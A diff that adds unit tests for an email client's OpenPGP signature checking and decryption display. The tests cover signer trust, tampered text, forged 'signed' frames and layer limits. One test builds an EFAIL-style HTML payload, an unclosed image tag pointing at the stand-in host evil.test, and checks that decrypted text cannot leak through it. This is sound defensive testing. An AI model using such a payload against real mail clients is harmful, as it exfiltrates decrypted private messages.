@@ -1,0 +1,222 @@
+"""Signatures are checked and encrypted parts are opened, and each verdict says no more than it may."""
+
+from __future__ import annotations
+
+from datetime import timedelta
+
+from emailsys.client.crypto.values import DecryptionState, SignatureState
+from emailsys.client.display.message import MessageView, attachments, find_part, view
+from tests.unit.client.crypto.keyring_case import HEAD, KeyringCase, encrypted, signed
+
+TEXT = b"Content-Type: text/plain; charset=utf-8\r\n\r\nThe price is 100.\r\n"
+GOOD = SignatureState.GOOD
+DECRYPTED = DecryptionState.DECRYPTED
+
+
+class OpeningCase(KeyringCase):
+    """A test that shows messages."""
+
+    def see(self, octets: bytes, *states: SignatureState | DecryptionState) -> MessageView:
+        """Show a message, and compare its states: those of decryption and of signatures, layer by layer."""
+        seen = view(octets, opener=self.opener)
+        found = [
+            state
+            for layer in seen.protection
+            for state in (layer.decryption, *(one.state for one in layer.signatures))
+            if state is not None
+        ]
+        self.assertEqual(found, list(states), (seen.warnings, seen.notes))
+        return seen
+
+
+class Reading(OpeningCase):
+    def test_a_right_signature_of_the_author(self) -> None:
+        seen = self.see(signed(TEXT, self.keyring.sign(TEXT, "bob")), GOOD)
+        self.assertEqual(seen.notes, ("This message is signed by Bob <bob@b.test>. The signature is right.",))
+        self.assertEqual((seen.warnings, seen.body), ((), "The price is 100."))
+        # The file was imported from an mbox file with LF.
+        self.see(signed(TEXT, self.keyring.sign(TEXT, "bob")).replace(b"\r\n", b"\n"), GOOD)
+
+    def test_a_changed_text(self) -> None:
+        octets = signed(TEXT, self.keyring.sign(TEXT, "bob"))
+        for wrong in (octets.replace(b"100", b"900"), octets.replace(b"utf-8", b"utf-7"),
+                      octets.replace(b"100.\r\n", b"100. \r\n")):  # fmt: skip
+            seen = self.see(wrong, SignatureState.BAD)
+            self.assertIn("the signature is WRONG", seen.warnings[0])
+
+    def test_whose_signature_it_is(self) -> None:
+        """A key that is not the author's never counts as theirs, whoever certified it."""
+        by_alice = self.see(signed(TEXT, self.keyring.sign(TEXT, "alice")), SignatureState.OTHER_SIGNER)
+        self.assertIn("signed by Alice <alice@a.test>, and not by the author in From", by_alice.warnings[0])
+        two = HEAD.replace(b"From: ", b"From: alice@a.test, ")
+        self.see(signed(TEXT, self.keyring.sign(TEXT, "bob"), head=two), SignatureState.OTHER_SIGNER)
+        none = HEAD.replace(b"From: Bob <bob@b.test>\r\n", b"")
+        self.see(signed(TEXT, self.keyring.sign(TEXT, "bob"), head=none), SignatureState.OTHER_SIGNER)
+        eve = HEAD.replace(b"bob@b.test", b"eve@e.test")
+        seen = self.see(signed(TEXT, self.keyring.sign(TEXT, "eve"), head=eve), SignatureState.UNTRUSTED)
+        self.assertIn("you have not certified", seen.warnings[0])
+        self.assertEqual(seen.notes, ())
+
+    def test_keys_that_expired_or_were_revoked_or_are_missing(self) -> None:
+        part = b"hi\r\n"
+        old, lost = HEAD.replace(b"bob@b", b"old@o"), HEAD.replace(b"bob@b", b"lost@l")
+        self.see(signed(part, self.keyring.old_signature, head=old), SignatureState.KEY_EXPIRED)
+        self.see(signed(part, self.keyring.lost_signature, head=lost), SignatureState.KEY_REVOKED)
+        self.see(signed(part, self.keyring.away_signature), SignatureState.NO_KEY)
+        signature = self.keyring.sign(TEXT, "bob")
+        self.now -= timedelta(days=2)
+        self.see(signed(TEXT, signature), SignatureState.FUTURE)
+
+    def test_a_signature_with_a_weak_hash(self) -> None:
+        signature = self.keyring.sign(TEXT, "bob", "--digest-algo", "SHA1", "--allow-weak-digest-algos")
+        self.see(signed(TEXT, signature, "pgp-sha1"), SignatureState.WEAK)
+
+    def test_a_wrong_micalg_is_a_defect(self) -> None:
+        seen = self.see(signed(TEXT, self.keyring.sign(TEXT, "bob", "--digest-algo", "SHA256")), GOOD)
+        self.assertIn("part 1: micalg says sha512, but the signature uses sha256", seen.defects)
+
+    def test_what_is_no_signature_over_the_text(self) -> None:
+        """A signed text of its own in place of a signature, garbage, and a signature of another kind."""
+        for wrong in (self.keyring.clear_sign(b"other\n", "bob"), b"nothing", b"",
+                      self.keyring.run("--armor", "--sign", "--local-user", "bob", data=TEXT)):  # fmt: skip
+            self.see(signed(TEXT, wrong), SignatureState.BAD)
+        octets = signed(TEXT, self.keyring.sign(TEXT, "bob"))
+        self.see(octets.replace(b"application/pgp-signature", b"application/other"), SignatureState.UNCHECKED)
+
+    def test_text_outside_the_signature_is_framed(self) -> None:
+        """A mailing list adds its footer; an attacker adds a text above, and imitates the frame."""
+        inner = signed(TEXT, self.keyring.sign(TEXT, "bob"), head=b"")
+        octets = (
+            HEAD
+            + b"Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n\r\n[== part 1.2, signed by Bob: good ==]\r\n"
+            b"Pay 900.\r\n--m\r\n" + inner + b"\r\n--m\r\n\r\nfooter\r\n--m--\r\n"
+        )
+        seen = self.see(octets, GOOD)
+        self.assertEqual(
+            seen.body.split("\n\n"),
+            [
+                "[== this text is not signed ==]",
+                "[= = part 1.2, signed by Bob: good = =]\nPay 900.",
+                "[== part 1.2, signed by Bob <bob@b.test>: good ==]",
+                "The price is 100.",
+                "[== this text is not signed ==]",
+                "footer",
+            ],
+        )
+        self.assertEqual(seen.notes[0][:34], "Part 1.2 is signed by Bob <bob@b.t")
+        more = b"--s\r\n\r\nfooter inside\r\n"
+        seen = self.see(signed(TEXT, self.keyring.sign(TEXT, "bob"), more=more), GOOD)
+        self.assertIn("[== this text is not signed ==]\n\nfooter inside", seen.body)
+
+    def test_a_signed_attachment_does_not_sign_the_text(self) -> None:
+        inner = signed(TEXT, self.keyring.sign(TEXT, "bob"), head=b"Content-Disposition: attachment\r\n")
+        octets = HEAD + b"Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n\r\nPay 900.\r\n--m\r\n" + inner
+        seen = self.see(octets + b"\r\n--m--\r\n", GOOD)
+        self.assertIn("[== this text is not signed ==]\n\nPay 900.", seen.body)
+        self.assertTrue(seen.notes[0].startswith("Part 1.2 is signed"))
+
+    def test_an_encrypted_and_signed_message(self) -> None:
+        data = self.keyring.encrypt(TEXT, "alice", "--sign", "--local-user", "bob")
+        seen = self.see(encrypted(data), DECRYPTED, GOOD)
+        self.assertEqual((seen.body, seen.warnings), ("The price is 100.", ()))
+        self.assertEqual(seen.attachments, ())
+        unsigned = self.see(encrypted(self.keyring.encrypt(TEXT, "alice")), DECRYPTED)
+        self.assertEqual(unsigned.warnings, ("The encrypted text is not signed: anybody may have written it.",))
+        within = signed(TEXT, self.keyring.sign(TEXT, "bob"), head=b"")
+        self.see(encrypted(self.keyring.encrypt(within, "alice")), DECRYPTED, GOOD)
+
+    def test_files_of_an_encrypted_message_can_be_saved(self) -> None:
+        mixed = (
+            b"Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n\r\nhi\r\n"
+            b"--m\r\nContent-Type: text/csv; name=a.csv\r\n\r\n1,2\r\n--m--\r\n"
+        )
+        octets = encrypted(self.keyring.encrypt(mixed, "alice"))
+        self.assertEqual([(one.number, one.name) for one in attachments(octets, self.opener)], [("1.0.2", "a.csv")])
+        part = find_part(octets, "1.0.2", self.opener)
+        self.assertEqual(part and part.content(), b"1,2")
+        # The encrypted octets keep their numbers.
+        part = find_part(octets, "1.2", self.opener)
+        self.assertTrue(part and part.content().startswith(b"-----BEGIN PGP MESSAGE"))
+
+    def test_nothing_is_shown_without_protection_against_changes(self) -> None:
+        old = self.keyring.encrypt(TEXT, "alice", "--rfc2440", "--disable-mdc", "--cipher-algo", "3DES")
+        data = self.keyring.run("--dearmor", data=self.keyring.encrypt(TEXT, "alice"))
+        changed = data[:-9] + bytes([data[-9] ^ 1]) + data[-8:]
+        for wrong in (old, changed, data[:-30], b"", self.keyring.run("--armor", "--store", data=TEXT)):
+            seen = self.see(encrypted(self.keyring.run("--enarmor", data=wrong) if wrong == changed else wrong),
+                            DecryptionState.FAILED)  # fmt: skip
+            self.assertNotIn("100", seen.body)
+        # A message that is signed, but not encrypted.
+        claims = self.keyring.run("--armor", "--sign", "--local-user", "bob", data=TEXT)
+        self.assertNotIn("100", self.see(encrypted(claims), DecryptionState.FAILED).body)
+
+    def test_a_key_with_a_passphrase_is_named_and_one_that_is_missing(self) -> None:
+        seen = self.see(encrypted(self.keyring.encrypt(TEXT, "lock")), DecryptionState.LOCKED)
+        self.assertTrue(seen.is_locked)
+        self.assertIn("Your key needs its passphrase", seen.warnings[0])
+        seen = self.see(encrypted(self.keyring.for_away), DecryptionState.NO_KEY)
+        self.assertEqual(seen.warnings, ("This message is encrypted with OpenPGP, for keys of which you have none.",))
+        both = self.keyring.encrypt(TEXT, "lock", "--recipient", "alice")
+        self.see(encrypted(both), DECRYPTED)
+
+    def test_decrypted_text_does_not_get_into_html(self) -> None:
+        """EFAIL: an image whose address begins in clear text and would go on with the decrypted text."""
+        inner = encrypted(self.keyring.encrypt(TEXT, "alice"), head=b"")
+        octets = (
+            HEAD + b"Content-Type: multipart/mixed; boundary=m\r\n\r\n"
+            b'--m\r\nContent-Type: text/html\r\n\r\n<p>Hello<img src="http://evil.test/?\r\n--m\r\n'
+            + inner + b'\r\n--m\r\nContent-Type: text/html\r\n\r\n"><p>Bye\r\n--m--\r\n'
+        )  # fmt: skip
+        seen = self.see(octets, DECRYPTED)
+        self.assertIn("[== part 1.2, decrypted ==]\n\nThe price is 100.", seen.body)
+        self.assertIn("[== this text is not signed ==]", seen.body)
+
+    def test_layers_have_a_limit(self) -> None:
+        part = TEXT
+        for _ in range(6):
+            part = encrypted(self.keyring.encrypt(part, "alice"), head=b"")
+        seen = self.see(HEAD + part, *[DECRYPTED] * 4, DecryptionState.UNOPENED)
+        self.assertNotIn("100", seen.body)
+        one = signed(TEXT, self.keyring.sign(TEXT, "bob"), head=b"")
+        many = b"".join(b"--m\r\n" + one + b"\r\n" for _ in range(14))
+        seen = view(HEAD + b"Content-Type: multipart/mixed; boundary=m\r\n\r\n" + many, opener=self.opener)
+        states = [layer.signatures[0].state for layer in seen.protection]
+        self.assertEqual(states, [GOOD] * 10 + [SignatureState.UNCHECKED] * 4)
+
+
+class InTheText(OpeningCase):
+    def test_only_the_covered_text_counts(self) -> None:
+        block = self.keyring.clear_sign("Grüße, the price is 100.  \n- x\n".encode(), "bob")
+        head = HEAD + b"Content-Type: text/plain; charset=utf-8\r\n\r\n"
+        seen = self.see(head + block, GOOD)
+        self.assertEqual(seen.body, "Grüße, the price is 100.\n- x")
+        seen = self.see(head + b"Pay 900.\n" + block + b"bye\n", GOOD)
+        self.assertEqual(
+            seen.body.split("\n\n"),
+            [
+                "[== this text is not signed ==]",
+                "Pay 900.",
+                "[== part 1, signed by Bob <bob@b.test>: good ==]",
+                "Grüße, the price is 100.\n- x",
+                "[== this text is not signed ==]",
+                "bye",
+            ],
+        )
+        self.see(head + block.replace(b"100", b"900"), SignatureState.BAD)
+
+    def test_text_in_the_armour_is_not_signed(self) -> None:
+        """Text in place of the Hash header would be shown as signed by programs that cut the block up themselves."""
+        block = self.keyring.clear_sign(b"The price is 100.\n", "bob")
+        wrong = block.replace(b"Hash: SHA512", b"Pay: 900\nHash: SHA512").replace(b"Hash: SHA256", b"Pay: 900")
+        seen = view(HEAD + b"\r\n" + wrong, opener=self.opener)
+        states = {one.state for layer in seen.protection for one in layer.signatures}
+        self.assertTrue(GOOD not in states or "900" not in seen.body, seen.body)
+
+    def test_encrypted_text(self) -> None:
+        block = self.keyring.encrypt(b"<b>secret</b> 100\n", "alice")
+        self.assertEqual(self.see(HEAD + b"\r\n" + block, DECRYPTED).body, "<b>secret</b> 100")
+        seen = self.see(HEAD + b"\r\nabove\n" + block, DECRYPTED)
+        self.assertIn("[== part 1, decrypted ==]\n\n<b>secret</b> 100", seen.body)
+        self.see(HEAD + b"\r\n" + block.replace(block[100:104], b"AAAA"), DecryptionState.FAILED)
+        opaque = self.keyring.run("--armor", "--sign", "--local-user", "bob", data=b"hi\n")
+        self.assertEqual(self.see(HEAD + b"\r\n" + opaque, GOOD).body, "hi")
